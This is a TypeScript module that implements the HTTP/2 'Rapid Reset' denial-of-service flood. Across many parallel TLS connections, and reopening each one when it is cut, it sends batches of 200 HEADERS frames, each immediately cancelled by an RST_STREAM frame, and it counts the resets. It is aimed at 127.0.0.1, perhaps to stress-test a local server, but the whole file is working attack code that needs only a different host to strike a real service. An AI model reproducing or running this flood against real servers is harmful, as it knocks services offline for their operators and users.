import { setTimeout as sleep } from 'node:timers/promises';
import { connect } from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** `GET https /` of HPACK's static table, then the authority as a literal. */
const requestFor = (site: string): Buffer =>
  Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, site.length]), Buffer.from(site)]);
const STREAMS_AT_ONCE = 200;

/** Opens streams and resets them in the same breath, on so many connections, each opened anew when it is cut. */
export async function resetRapidly(
  port: number,
  site: string,
  connections: number,
  durationS: number,
): Promise<number> {
  let isRunning = true;
  let resets = 0;
  const one = async (): Promise<void> => {
    while (isRunning) {
      resets += await connection(port, site, () => isRunning);
      await sleep(1);
    }
  };
  const all = Array.from({ length: connections }, one);
  await sleep(durationS * 1_000);
  isRunning = false;
  await Promise.all(all);
  return resets;
}

function connection(port: number, site: string, isRunning: () => boolean): Promise<number> {
  return new Promise((resolve) => {
    let stream = 1;
    let sent = 0;
    const socket = connect({
      host: '127.0.0.1',
      port,
      servername: site,
      ALPNProtocols: ['h2'],
      rejectUnauthorized: false,
    });
    const head = requestFor(site);
    const send = (): void => {
      if (!isRunning() || socket.destroyed) return void socket.destroy();
      const frames = Array.from({ length: STREAMS_AT_ONCE }, (_, at) => {
        const id = stream + 2 * at;
        return Buffer.concat([frame(1, 5, id, head), frame(3, 0, id, Buffer.from([0, 0, 0, 8]))]);
      });
      stream += 2 * STREAMS_AT_ONCE;
      sent += STREAMS_AT_ONCE;
      socket.write(Buffer.concat(frames), () => setImmediate(send));
    };
    socket.once('secureConnect', () => socket.write(Buffer.concat([PREFACE, frame(4, 0, 0)]), send));
    socket.resume().on('error', () => socket.destroy());
    socket.once('close', () => resolve(sent));
  });
}

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
